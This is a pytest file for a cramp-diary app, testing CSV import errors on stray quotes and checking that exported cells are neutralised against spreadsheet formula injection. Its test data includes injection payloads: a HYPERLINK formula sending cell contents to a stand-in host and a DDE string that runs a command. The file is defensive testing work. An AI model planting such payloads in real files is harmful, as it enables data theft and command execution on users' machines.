"""CSV safety (issue 15): a stray quote is refused with the line where it begins (never rows swallowed into
one note); exported cells never start a spreadsheet formula, and the export still imports back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from crampcheck.diary import csvio, service
from crampcheck.diary.errors import CsvImportError
from crampcheck.diary.schemas import EpisodeCreate, ExposureIn
from crampcheck.storage.db import open_database

HEADER = "started_at,muscle,severity,note\n"


def _rows(n: int, start: int = 1) -> str:
    return "".join(f"2024-06-{d:02d}T03:10,calf,5,row {d}\n" for d in range(start, start + n))


def _import(text: str) -> int:
    db = open_database()
    with db.session() as s:
        uid = service.ensure_user(session=s, name="local").id
        try:
            return csvio.import_csv(session=s, user_id=uid, source=io.StringIO(text, newline="")).rows
        except CsvImportError:
            s.rollback()
            raise


@pytest.mark.parametrize(
    "bad,line",
    [
        ('2024-05-31T03:10,calf,5,"she said ""ouch\n', 5),  # the review's file: never closed
        ('2024-05-31T03:10,calf,5,"she said" ouch\n', 5),  # text after the closing quote
        ('2024-05-31T03:10,calf,5,"ouch\n2024-06-30T03:10,calf,5,"x"\n', 5),  # closed by a later row's quote
    ],
)
def test_a_stray_quote_is_refused_naming_its_line(data_dir: Path, bad: str, line: int) -> None:
    text = HEADER + _rows(3) + bad + _rows(17, start=10)
    with pytest.raises(CsvImportError) as err:
        _import(text)
    assert err.value.problems[0][0] == line
    assert "double quote" in err.value.problems[0][1]
    with open_database().session() as s:
        uid = service.ensure_user(session=s, name="local").id
        assert service.list_episodes(session=s, user_id=uid) == []


def test_quoted_commas_quotes_and_line_breaks_still_import(data_dir: Path) -> None:
    text = HEADER + '2024-06-01T03:10,calf,5,"she said ""ouch"", then\nstretched"\n' + _rows(2, start=2)
    assert _import(text) == 3


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)",
            "'=already quoted", "''=twice", "'plain apostrophe", "fine = text"]  # fmt: skip


def test_exports_neutralise_formulas_and_import_back_unchanged(data_dir: Path) -> None:
    db = open_database()
    with db.session() as s:
        uid = service.ensure_user(session=s, name="local").id
        for k, text in enumerate(FORMULAS, start=1):
            ep = EpisodeCreate(
                started_at=f"2024-05-{k:02d}T03:10", muscle="calf", severity=5, note=text, activity=text
            )
            service.add_episode(session=s, user_id=uid, episode=ep)
            service.put_exposure(
                session=s, user_id=uid, exposure=ExposureIn(day=f"2024-05-{k:02d}", note=text, medicines=[text])
            )
    with db.session() as s:
        exported = {
            kind: csvio.export_csv(session=s, user_id=uid, kind=kind) for kind in ("episodes", "exposures")
        }
    for kind, text in exported.items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], kind
        assert "'=HYPERLINK(" in text and "'''=twice" in text
    # into a fresh diary: the same notes, character for character
    with db.session() as s:
        other = service.ensure_user(session=s, name="other").id
        for text in exported.values():
            csvio.import_csv(session=s, user_id=other, source=io.StringIO(text, newline=""))
    with db.session() as s:
        notes = [e.note for e in service.list_episodes(session=s, user_id=other)]
        days = service.list_exposures(session=s, user_id=other)
    assert notes == FORMULAS
    assert [x.medicines for x in days] == [[t] for t in FORMULAS]
